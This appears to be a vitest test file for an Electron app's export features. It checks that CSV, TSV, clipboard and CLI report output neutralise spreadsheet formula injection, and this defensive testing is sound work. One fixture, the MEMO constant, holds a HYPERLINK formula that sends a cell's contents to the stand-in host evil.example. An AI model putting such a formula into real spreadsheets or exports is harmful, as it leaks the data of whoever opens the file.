import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it, vi } from 'vitest';
import { reportsCommands } from '../../electron/cli/commands/reports';
import { invoke } from '../../electron/backend/dispatch';
import { Session } from '../../electron/backend/session';
import { neutraliseFormula, tablesToCsv, tableToTsv } from '../../shared/export/csv';
import { newProjectSession, trackSession } from '../helpers/session';
import { exportTo } from './helpers/project';

// Quotes a spreadsheet would run as formulas if written raw, with what the cell must read instead.
const DANGEROUS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['-2+3', "'-2+3"],
  ['+1+1', "'+1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=x', "'\t=x"],
  ['\r=x', "'\r=x"],
];
// Importing a text file turns CR into a line break, so a quote cannot start with one: CR is unit-tested only.
const QUOTED = DANGEROUS.filter(([raw]) => !raw.startsWith('\r'));
const MEMO = `=HYPERLINK("http://evil.example/?"&A1,"open")`;

describe('the formula guard', () => {
  it('prefixes cells starting with = + - @ tab or CR, and keeps plain negative numbers numbers', () => {
    for (const [raw, safe] of DANGEROUS) expect(neutraliseFormula(raw)).toBe(safe);
    for (const number of ['-2', '-0.5', '-3,5', '-.5', '-1e6', '-2.5E-3'])
      expect(neutraliseFormula(number)).toBe(number);
    for (const text of ['-', '--x', '-2 apples', '- a bullet', '-1e', '-0x10'])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(neutraliseFormula('plain = text')).toBe('plain = text');
  });

  it('guards a report’s Save CSV and Copy (the renderer’s writers)', () => {
    const table = { caption: '=caption', header: ['Quote'], rows: DANGEROUS.map(([raw]) => [raw]) };
    const csv = parse(tablesToCsv([table]), { relaxColumnCount: true }) as string[][];
    expect(csv.map((r) => r[0])).toEqual(["'=caption", 'Quote', ...DANGEROUS.map(([, safe]) => safe)]);
    // A paste has no quoting: tabs and line breaks become spaces, after the guard.
    const pasted = tableToTsv(table).split('\n').slice(1);
    expect(pasted).toEqual(DANGEROUS.map(([, safe]) => safe.replace(/[\t\r]/g, ' ')));
  });
});

/** A project with one document of dangerous lines, each coded "Formulas"; the first with a formula memo. */
async function formulaProject() {
  const { session, dir, file } = await newProjectSession();
  const source = path.join(dir, 'cells.txt');
  fs.writeFileSync(source, `${QUOTED.map(([raw]) => `${raw} end`).join('\n')}\n`);
  const { jobId } = await invoke(session, 'documents.import', { paths: [source] });
  expect((await session.jobs.wait(jobId)).state).toBe('done');
  const [document] = await invoke(session, 'documents.list', {});
  const { text } = await invoke(session, 'documents.get', { id: document!.id });
  const code = await invoke(session, 'codes.create', { name: 'Formulas' });
  let from = 0;
  for (const [raw] of QUOTED) {
    const start = text.indexOf(raw, from);
    expect(start, `${JSON.stringify(raw)} kept in the document`).toBeGreaterThanOrEqual(0);
    from = start + raw.length;
    const segment = await invoke(session, 'segments.apply', {
      documentId: document!.id,
      codeId: code.id,
      startUtf16: start,
      endUtf16: start + raw.length,
    });
    if (raw === QUOTED[0]![0]) await invoke(session, 'segments.setMemo', { id: segment.id, memo: MEMO });
  }
  return { session, dir, file, codeId: code.id };
}

describe('every CSV and TSV the app writes', () => {
  it('export csv and tsv write the dangerous quotes and memo as text', async () => {
    const { session, dir, codeId } = await formulaProject();
    for (const [format, delimiter] of [
      ['csv', ','],
      ['tsv', '\t'],
    ] as const) {
      const target = path.join(dir, `segments.${format}`);
      await exportTo(session, { codeIds: [codeId], includeMemos: true }, format, target);
      const rows = parse(fs.readFileSync(target, 'utf8').slice(1), {
        columns: true,
        delimiter,
      }) as Record<string, string>[];
      expect(rows.map((r) => r.text)).toEqual(QUOTED.map(([, safe]) => safe));
      expect(rows[0]!.memo).toBe(`'${MEMO}`);
    }
  });

  it('`passage report … --csv` writes them as text', async () => {
    const { session, file } = await formulaProject();
    session.close();
    const report = reportsCommands.find((c) => c.name === 'report')!;
    const cli = trackSession(new Session('cli', { coder: 'cli' }));
    const written: string[] = [];
    const write = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
      written.push(String(chunk));
      return true;
    });
    try {
      await report.run({
        session: cli,
        argv: [file, 'evidence', '--codes', 'Formulas', '--csv'],
        out: { json: false, print: () => undefined },
      });
    } finally {
      write.mockRestore();
    }
    const rows = parse(written.join(''), { relaxColumnCount: true }) as string[][];
    const header = rows[1]!;
    const quotes = rows.slice(2).map((r) => r[header.indexOf('Quote')]);
    expect(quotes).toEqual(QUOTED.map(([, safe]) => safe));
    expect(rows.slice(2)[0]![header.indexOf('Memo')]).toBe(`'${MEMO}`);
  });
});
